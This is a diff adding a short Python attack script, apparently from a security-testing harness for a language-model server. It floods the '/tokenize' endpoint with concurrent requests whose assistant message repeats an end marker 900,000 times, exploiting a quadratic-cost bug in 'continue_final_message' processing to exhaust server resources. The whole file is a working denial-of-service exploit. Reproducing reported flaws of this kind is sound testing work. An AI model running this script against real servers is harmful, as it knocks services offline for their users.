@@ -1,0 +1,29 @@
+"""A final message to be continued, in which the mark of its end stands 900,000 times."""
+
+import json
+
+from tools.attacks.target import Target
+
+FINDING = "9: continue_final_message is quadratic"
+
+REPEATS = 900_000
+AT_ONCE = 4
+HEADERS = {"content-type": "application/json"}
+
+
+async def attack(target: Target) -> None:
+    """To be tokenised, several at once."""
+    message = {"role": "assistant", "content": "\ue000end\ue000" * REPEATS}
+    body = {"messages": [message], "continue_final_message": True, "add_generation_prompt": False}
+    content = json.dumps(body, ensure_ascii=False).encode()
+    shorter = content.replace("\ue000end\ue000".encode() * (REPEATS // 10 * 9), b"")
+    number = 0
+    async with target.client() as client:
+
+        async def ask() -> None:
+            nonlocal number
+            number += 1
+            sent = content if number % 2 and len(content) < 2**23 else shorter
+            await target.post(client, "/tokenize", content=sent, headers=HEADERS)
+
+        await target.crowd(ask, AT_ONCE)
